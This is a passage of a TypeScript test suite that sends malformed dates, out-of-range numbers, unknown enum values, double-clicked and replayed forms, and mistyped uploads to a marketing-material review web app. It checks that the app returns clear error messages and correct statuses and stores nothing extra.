      category: "date",
      send: () => postMany(`/plans/${c.west}/${YEAR}`, prePlan({ strategyDueDate: [`${YEAR}-13-01`] }), c.marketer),
      status: 400,
      says: "Lead strategy 1: enter its date as YYYY-MM-DD.",
    },
    {
      name: "library dates the wrong way round",
      category: "date",
      send: () => get("/library?from=2030-01-01&to=2020-01-01", c.rep),
      status: 200,
      says: "The dates were the wrong way round; they have been swapped.",
    },
    {
      name: "a library date that does not exist",
      category: "date",
      send: () => get("/library?from=2031-02-30", c.rep),
      status: 200,
      says: "“2031-02-30” is not a date (YYYY-MM-DD); that limit was left out.",
    },
    {
      name: "metrics months the wrong way round, and month 13",
      category: "date",
      send: () => get("/metrics?from=2030-06&to=2020-01", c.vpSales),
      status: 200,
      says: "The months were the wrong way round; they have been swapped.",
    },
    {
      name: "a metrics month 13",
      category: "date",
      send: () => get("/metrics?from=2030-13", c.vpSales),
      status: 200,
      says: "“2030-13” is not a month (YYYY-MM); that limit was left out.",
    },

    // --- Negative and huge numbers -------------------------------------------------------------
    {
      name: "a comment on page -1",
      category: "number",
      send: () => post(material(), comment({ page: "-1" }), c.member1),
      status: 400,
      says: "Pages are numbered from 1.",
    },
    {
      name: "a comment on page 2,147,483,648",
      category: "number",
      send: () => post(material(), comment({ page: "2147483648" }), c.member1),
      status: 400,
      says: "Version 1 has 2 pages; there is no page 2147483648.",
    },
    {
      name: "a pin at x = 1e308",
      category: "number",
      send: () => post(material(), comment({ x: "1e308" }), c.member1),
      status: 400,
      says: "The pin's x position must be between 0 and 1 (a fraction of the page).",
    },
    {
      name: "a pin at y = -0.0001",
      category: "number",
      send: () => post(material(), comment({ y: "-0.0001" }), c.member1),
      status: 400,
      says: "The pin's y position must be between 0 and 1",
    },
    {
      name: "a review window of -5 hours",
      category: "number",
      send: () => post("/admin/calendar", { intent: "window", value: "-5", unit: "business_hours" }, c.admin),
      status: 400,
      says: "The window is at least 1.",
    },
    {
      name: "a review window of a billion hours",
      category: "number",
      send: () => post("/admin/calendar", { intent: "window", value: "1000000000", unit: "business_hours" }, c.admin),
      status: 400,
      says: "The window is at most 40 (days or hours).",
    },
    {
      name: "a team window of 1.5 hours",
      category: "number",
      send: () => post("/admin/calendar", { intent: "team-window", teamId: String(c.east), value: "1.5", unit: "business_hours" }, c.admin),
      status: 400,
      says: "Enter the length of the window as a whole number.",
    },
    {
      name: "a team window for team 999,999,999",
      category: "number",
      send: () => post("/admin/calendar", { intent: "team-window", teamId: "999999999", value: "8", unit: "business_hours" }, c.admin),
      status: 404,
      says: "That sales team does not exist.",
    },
    {
      name: "a version id of 20 digits",
      category: "number",
      send: () => post(material(), comment({ versionId: "99999999999999999999" }), c.member1),
      status: 400,
      says: "Choose a version.",
    },
    {
      name: "a preview round id of -7",
      category: "number",
      send: () => post(`/materials/${c.deciding.materialId}`, decision({ roundId: "-7" }), c.member2),
      status: 400,
      says: "Choose the preview you are deciding.",
    },
    {
      name: "a material id of 20 digits",
      category: "number",
      send: () => get("/materials/99999999999999999999", c.member1),
      status: 404,
      says: "We couldn't find that material.",
    },
    {
      name: "comparing version -1 with version 999,999",
      category: "number",
      send: () => get(material("/compare?a=-1&b=999999"), c.member1),
      status: 404,
      says: "We couldn't find that version.",
    },
    {
      name: "opening notification -1",
      category: "number",
      send: () => post("/notifications", { intent: "open", id: "-1" }, c.rep),
      status: 404,
      says: "We couldn't find that notification.",
    },

    // --- Unknown enum values ---------------------------------------------------------------------
    {
      name: "an unknown kind of material",
      category: "enum",
      send: () => sendFile("ok.pdf", c.pdf, { kind: "poster" }),
      status: 400,
      says: "Choose what kind of material this is.",
    },
    {
      name: "an unknown comment category",
      category: "enum",
      send: () => post(material(), comment({ category: "vibes" }), c.member1),
      status: 400,
      says: "Choose a category.",
    },
    {
      name: "an unknown round decision",
      category: "enum",
      send: () => post(`/materials/${c.deciding.materialId}`, decision({ decision: "maybe" }), c.member2),
      status: 400,
      says: "Choose: approve, or request changes.",
    },
    {
      name: "an unknown escalation decision",
      category: "enum",
      send: () => post(`/escalations/${c.dispute.escalationId}`, { decision: "flip-a-coin" }, c.eastManager),
      status: 400,
      says: "Choose: uphold, overrule, or a compromise.",
    },
    {
      name: "an unknown role",
      category: "enum",
      send: () => post("/admin/users/new", user({ role: "superadmin" }), c.admin),
      status: 400,
      says: "Choose a role.",
    },
    {
      name: "an unknown window unit",
      category: "enum",
      send: () => post("/admin/calendar", { intent: "window", value: "2", unit: "fortnights" }, c.admin),
      status: 400,
      says: "Choose business days or business hours.",
    },
    {
      name: "an unknown answer to a comment",
      category: "enum",
      send: () => post(material(), { intent: "answer", commentId: String(c.parentCommentId), answer: "perhaps" }, c.marketer),
      status: 400,
      says: "Choose accept or decline.",
    },
    {
      name: "an unknown intent",
      category: "enum",
      send: () => post(material(), { intent: "delete-everything" }, c.marketer),
      status: 400,
      says: "That action is not available on this page.",
    },

    // --- The same form sent twice at once (a double click) ------------------------------------------
    {
      name: "a comment double-clicked",
      category: "double",
      send: () => twice(() => post(material(), comment({ body: "The logo is the old one." }), c.member1)),
      status: [200, 409],
      says: "You have already posted this comment.",
      changes: { comments: 1, audit_events: 1, notifications: 1, outbox_messages: 1 },
    },
    {
      name: "a reply double-clicked",
      category: "double",
      send: () => twice(() => post(material(), { intent: "reply", commentId: String(c.parentCommentId), body: "Fixed in the next version." }, c.marketer)),
      status: [200, 409],
      says: "You have already posted this reply.",
      // The commenter is told of the reply, once.
      changes: { comments: 1, audit_events: 1, notifications: 1, outbox_messages: 1 },
    },
    {
      name: "a new material double-clicked",
      category: "double",
      send: () => twice(() => sendFile("twice.pdf", c.pdf, { title: "Bad input: uploaded twice" })),
      status: [201, 409],
      says: "You have already uploaded this file as “Bad input: uploaded twice”",
      changes: upload1,
      files: 1,
    },
    {
      name: "a new version double-clicked",
      category: "double",
      send: () => twice(() => upload(material("/upload"), { changeNote: "New chart." }, { name: "v2.pdf", bytes: c.v2 }, c.marketer)),
      status: [201, 409],
      says: "You have already uploaded this file as version 2, with the same note.",
      changes: { material_versions: 1, materials: 0, audit_events: 1 },
      files: 1,
    },
    {
      name: "a round decision double-clicked",
      category: "double",
      send: () => twice(() => post(`/materials/${c.deciding.materialId}`, decision(), c.member1)),
      status: [200, 409],
      says: "You have already decided this preview.",
      // The submitter and the other committee member are told of the decision, once.
      changes: { round_decisions: 0, audit_events: 1, notifications: 2, outbox_messages: 2 },
    },
    {
      // Two managers are addressed: the first click proposes (told to the other manager and both sides), the second is refused.
      name: "an escalation proposal double-clicked",
      category: "double",
      send: () => twice(() => post(`/escalations/${c.dispute.escalationId}`, { decision: "overrule", note: "The June date stands." }, c.eastManager)),
      status: [200, 409],
      says: "You have already proposed this",
      changes: { escalation_proposals: 1, audit_events: 1, outbox_messages: 3, notifications: 3 },
    },
    {
      name: "a holiday double-clicked",
      category: "double",
      send: () => twice(() => post("/admin/calendar", holiday(), c.admin)),
      status: [200, 409],
      says: "2033-07-04 is already a holiday (Bad input day).",
      changes: { holidays: 1, audit_events: 1 },
      cleanup: async () => {
        const added = await database.models.Holiday.findOne({ where: { name: "Bad input day" } });
        expect((await post("/admin/calendar", { intent: "remove-holiday", id: String(added!.id) }, c.admin)).status).toBe(200);
      },
    },
    {
      name: "a new user double-clicked",
      category: "double",
      send: () => twice(() => post("/admin/users/new", user({ email: "casey.twice@demo.test" }), c.admin)),
      status: [302, 400],
      says: "Another user already has this email address.",
      changes: { users: 1, password_tokens: 1, outbox_messages: 1, audit_events: 1 },
    },
    {
      name: "a pre-plan double-clicked",
      category: "double",
      send: () => twice(() => postMany(`/plans/${c.west}/${YEAR}`, prePlan(), c.marketer)),
      status: [200, 409],
      says: `Mid-Market West already has a pre-plan for ${YEAR}. Edit that one instead.`,
      changes: { pre_plans: 1, lead_strategies: 1, audit_events: 1 },
    },
    {
      name: "a set-password form double-clicked",
      category: "double",
      prepare: async () => {
        c.token = await newUserToken("pat.twice@demo.test");
      },
      send: () => twice(() => post(`/set-password/${c.token}`, { password: "a long new password", confirm: "a long new password" })),
      status: [302, 410],
      says: "This set-password link has already been used or has expired.",
      changes: { users: 0, password_tokens: 0, sessions: 1, audit_events: 1 },
    },

    // --- A form replayed after it was used --------------------------------------------------------
    {
      name: "a round decision replayed",
      category: "replay",
      send: () => post(`/materials/${c.deciding.materialId}`, decision({ decision: "changes_requested", summary: "Changed my mind." }), c.member1),
      status: 409,
      says: "You have already decided this preview.",
    },
    {
      name: "an agreement to a proposal replayed",
      category: "replay",
      prepare: async () => {
        const proposal = await database.models.EscalationProposal.findOne({ where: { escalationId: c.dispute.escalationId, state: "open" } });
        c.proposalId = proposal!.id;
        expect((await post(`/escalations/${c.dispute.escalationId}`, { intent: "agree", proposalId: String(c.proposalId) }, c.marketingManager)).status).toBe(200);
      },
      send: () => post(`/escalations/${c.dispute.escalationId}`, { intent: "agree", proposalId: String(c.proposalId) }, c.marketingManager),
      status: 409,
      says: "This escalation has already been decided.",
    },
    {
      name: "an accepted comment's answer replayed",
      category: "replay",
      prepare: async () => {
        expect((await post(material(), { intent: "answer", commentId: String(c.answeredCommentId), answer: "accept" }, c.marketer)).status).toBe(200);
      },
      send: () => post(material(), { intent: "answer", commentId: String(c.answeredCommentId), answer: "accept" }, c.marketer),
      status: 409,
      says: "This comment has already been answered",
    },
    {
      name: "a set-password form replayed",
      category: "replay",
      prepare: async () => {
        c.token = await newUserToken("pat.replay@demo.test");
        expect((await post(`/set-password/${c.token}`, { password: "a long new password", confirm: "a long new password" })).status).toBe(302);
      },
      send: () => post(`/set-password/${c.token}`, { password: "another long password", confirm: "another long password" }),
      status: 410,
      says: "This set-password link has already been used or has expired. Ask your administrator for a new one.",
    },

    // --- Requests for material -------------------------------------------------------
    {
      name: "a request for material with its required fields empty",
      category: "length",
      send: () => upload("/requests/upload", materialRequest({ need: " ", customers: "", neededBy: "" }), { name: "mine.pdf", bytes: c.pdf }, c.rep),
      status: 400,
      says: "Say what you need",
    },
    {
      name: "a request for material needed by a day in the past",
      category: "date",
      send: () => upload("/requests/upload", materialRequest({ neededBy: "2020-01-01" }), { name: "mine.pdf", bytes: c.pdf }, c.rep),
      status: 400,
      says: /That day is in the past: enter \d{4}-\d{2}-\d{2} or later\./,
    },
    {
      name: "a request's example that is a ZIP with no directory (a deck cut short)",
      category: "type",
      send: () => upload("/requests/upload", materialRequest(), { name: "deck.pptx", bytes: ZIP }, c.rep),
      status: 422,
      says: "This file is incomplete or damaged",
    },
    {
      name: "a request's example that is a program",
      category: "type",
      send: () => upload("/requests/upload", materialRequest(), { name: "deck.pptx", bytes: EXE }, c.rep),
      status: 415,
      says: "PowerPoint deck (PPTX) or Word document (DOCX)",
    },
    {
      name: "a request answered with another team's material",
      category: "enum",
      prepare: async () => {
        await fileRequest();
        const west = await upload("/materials/upload", newMaterial({ title: "Bad input: West only", teamIds: String(c.west) }), { name: "w.pdf", bytes: c.pdf }, c.marketer);
        c.westMaterialId = Number((await west.json()).url.split("/").pop());
      },
      send: () => post(`/requests/${c.requestId}`, { intent: "answer", materialId: String(c.westMaterialId) }, c.marketer),
      status: 400,
      says: "is not aimed at the requester's team",
    },
    {
      name: "a declined request accepted",
      category: "replay",
      prepare: async () => {
        await fileRequest();
        expect((await post(`/requests/${c.requestId}`, { intent: "decline", reason: "Not this year." }, c.marketer)).status).toBe(200);
      },
      send: () => post(`/requests/${c.requestId}`, { intent: "accept" }, c.marketer),
      status: 409,
      says: "This request was declined",
    },
    {
      name: "a request declined without a reason",
      category: "length",
      prepare: fileRequest,
      send: () => post(`/requests/${c.requestId}`, { intent: "decline", reason: "  " }, c.marketer),
      status: 400,
      says: "Say why marketing will not make it",
    },
  ];

  beforeAll(async () => {
    database = serverDatabase();
    [c.marketer, c.member1, c.member2, c.rep, c.admin, c.eastManager, c.vpSales, c.marketingManager] = await Promise.all(
      [
        "marketer1@demo.test",
        "east.committee1@demo.test",
        "east.committee2@demo.test",
        "east.rep1@demo.test",
        "admin@demo.test",
        "east.manager@demo.test",
        "vp.sales@demo.test",
        "marketing.manager@demo.test",
      ].map((email) => signInAs(email)),
    );
    const { models } = database;
    c.east = (await models.SalesTeam.findOne({ where: { name: "Enterprise East" } }))!.id;
    c.west = (await models.SalesTeam.findOne({ where: { name: "Mid-Market West" } }))!.id;
    c.owner = (await models.User.findOne({ where: { email: "marketer1@demo.test" } }))!.id;
    c.westRep = (await models.User.findOne({ where: { email: "west.rep2@demo.test" } }))!.id;
    c.pdf = await makePdf({ pages: 2, title: "Bad input" });
    c.v2 = await makePdf({ pages: 2, title: "Bad input, version 2" });

    const create = async (title: string) => {
      const response = await upload("/materials/upload", newMaterial({ title }), { name: "m.pdf", bytes: await makePdf({ pages: 2, title }) }, c.marketer);
      expect(response.status).toBe(201);
      const materialId = Number(((await response.json()) as { url: string }).url.split("/").pop());
      return { materialId, versionId: (await models.MaterialVersion.findOne({ where: { materialId } }))!.id };
    };
    const act = async (materialId: number, fields: Record<string, string>, cookie: string) => {
      const response = await post(`/materials/${materialId}`, fields, cookie);
      expect(response.status, JSON.stringify(fields)).toBe(200);
    };

    // A material to comment on, with one thread to reply to and one comment to answer.
    c.base = await create("Bad input: base");
    // Comments are taken in an open round: the base material is in preview all along.
    await act(c.base.materialId, { intent: "submit" }, c.marketer);
    await act(c.base.materialId, comment({ body: "Which price list is this?" }), c.member1);
    await act(c.base.materialId, comment({ body: "The phone number is wrong.", page: "1" }), c.member2);
    const [first, second] = await models.Comment.findAll({ where: { materialId: c.base.materialId }, order: [["id", "ASC"]] });
    c.parentCommentId = first.id;
    c.answeredCommentId = second.id;

    // A preview waiting for the committee's decisions.
    const deciding = await create("Bad input: deciding");
    await act(deciding.materialId, { intent: "submit" }, c.marketer);
    c.deciding = { materialId: deciding.materialId, roundId: (await models.PreviewRound.findOne({ where: { materialId: deciding.materialId } }))!.id };

    // A dispute escalated to the managers.
    const dispute = await create("Bad input: dispute");
    await act(dispute.materialId, { intent: "submit" }, c.marketer);
    await act(dispute.materialId, { ...comment({ body: "This discount ended in March.", page: "1" }), versionId: String(dispute.versionId) }, c.member1);
    const disputed = (await models.Comment.findOne({ where: { materialId: dispute.materialId } }))!.id;
    await act(dispute.materialId, { intent: "answer", commentId: String(disputed), answer: "decline", reason: "It was extended to June." }, c.marketer);
    await act(dispute.materialId, { intent: "settle", commentId: String(disputed), settle: "hold" }, c.member1);
    const round = (await models.PreviewRound.findOne({ where: { materialId: dispute.materialId } }))!.id;
    for (const member of [c.member1, c.member2]) await act(dispute.materialId, { intent: "decide", roundId: String(round), decision: "approved", summary: "Fine." }, member);
    c.dispute = { materialId: dispute.materialId, versionId: dispute.versionId, roundId: round, escalationId: (await models.Escalation.findOne({ where: { materialId: dispute.materialId } }))!.id };
  });

  afterAll(async () => {
    // Leave no open preview behind in the committee's queue for the files that run next.
    if (c.deciding.roundId) await post(`/materials/${c.deciding.materialId}`, decision(), c.member2);
    const base = await database?.models.PreviewRound.findOne({ where: { materialId: c.base.materialId, state: "open" } });
    for (const member of base ? [c.member1, c.member2] : []) {
      await post(`/materials/${c.base.materialId}`, { intent: "decide", roundId: String(base!.id), decision: "approved", summary: "Fine." }, member);
    }
    await database?.close();
  });

  it("has at least 30 cases, in every category", () => {
    expect(CASES.length).toBeGreaterThanOrEqual(30);
    const categories = new Set(CASES.map((k) => k.category));
    expect([...categories].sort()).toEqual(["control", "date", "double", "enum", "length", "markup", "number", "pdf", "replay", "size", "type"]);
    expect(new Set(CASES.map((k) => k.name)).size).toBe(CASES.length);
  });

  it.each(CASES.map((k) => [`${k.category}: ${k.name}`, k] as const))("%s", async (_label, k) => {
    await k.prepare?.();
    const before = await snapshot(database);
    const filesBefore = storedFiles();

    const sent = await k.send();
    const responses = Array.isArray(sent) ? sent : [sent];
    const answers = await Promise.all(responses.map(async (response) => ({ status: response.status, ...(await readAnswer(response)) })));
    const statuses = answers.map((a) => a.status).sort((a, b) => a - b);

    // The right status, never a 500, never a stack trace.
    expect(statuses, answers.map((a) => a.text.slice(0, 600)).join("\n---\n")).toEqual(Array.isArray(k.status) ? k.status : [k.status]);
    for (const answer of answers) {
      expect(answer.raw).not.toMatch(/\bat [\w$.<>]+ \(?[^)\s]*:\d+:\d+\)?/);
      expect(answer.raw).not.toContain("node_modules");
      expect(answer.text).not.toContain("Unexpected Server Error");
    }
    // A clear message on every refused answer, and on a page that says what it ignored.
    const speaking = answers.filter((a) => a.status >= 400 || (k.says !== "" && !Array.isArray(k.status)));
    expect(speaking.length > 0).toBe(k.says !== "");
    for (const answer of speaking) {
      if (typeof k.says === "string") expect(answer.text).toContain(k.says);
      else expect(answer.text).toMatch(k.says);
    }

    // Nothing stored but what the case allows; no file left behind.
    const after = await snapshot(database);
    const allowed = k.changes ?? {};
    for (const table of Object.keys(after)) {
      if (table in allowed) expect(after[table].rows - (before[table]?.rows ?? 0), table).toBe(allowed[table]);
      else expect(after[table], table).toEqual(before[table]);
    }
    const filesAfter = storedFiles();
    expect(filesAfter.filter((f) => f.endsWith(".part"))).toEqual([]);
    expect(filesAfter.length - filesBefore.length).toBe(k.files ?? 0);

    await k.stored?.();

    // Accepted markup comes back as text.
    if (k.shownOn) {
      const page = await k.shownOn.page();
      expect(page).not.toContain(k.shownOn.raw);
      expect(page).toContain(k.shownOn.escaped);
    }

    // The server still serves: its health check and a page.
    expect((await get("/healthz")).status).toBe(200);
    const home = await get("/", c.member1);
    expect(home.status).toBe(200);
    expect(visibleText(await home.text())).toContain("Previews waiting for your decision");

    await k.cleanup?.();
  });
});
